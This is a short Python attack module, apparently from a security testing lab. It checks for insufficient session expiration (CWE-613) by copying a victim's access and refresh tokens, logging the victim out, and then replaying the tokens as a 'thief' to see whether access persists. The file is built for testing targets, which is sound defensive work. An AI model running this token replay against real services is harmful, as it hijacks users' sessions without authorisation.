"""Go on after the owner has logged out.

Exploits a log-in that nobody can end: there is no logout, or one that only makes the client forget
its tokens. Whoever has a copy of them goes on.
Source: CWE-613 Insufficient Session Expiration,
https://cwe.mitre.org/data/definitions/613.html
"""

from attacks.lab.attack import attack
from attacks.lab.outcome import Outcome, judge
from attacks.lab.target import Target, borne


@attack(door="no-logout")
def run(target: Target) -> Outcome:
    """Copy the tokens of the victim, who then logs out; renew, or read where nobody renews."""
    tokens = target.tokens_of(target.enrol())
    target.must_read_tokens()
    access, refresh = tokens["access_token"], tokens.get("refresh_token")
    form = {"refresh_token": refresh} if refresh else {}
    logout = target.http.post("/auth/logout", data=form, headers=borne(access))
    with target.as_thief() as thief:
        after = thief.refresh(refresh) if refresh else thief.read(access)
    return judge({f"a logout: {logout.status_code}; the thief, after it": after})
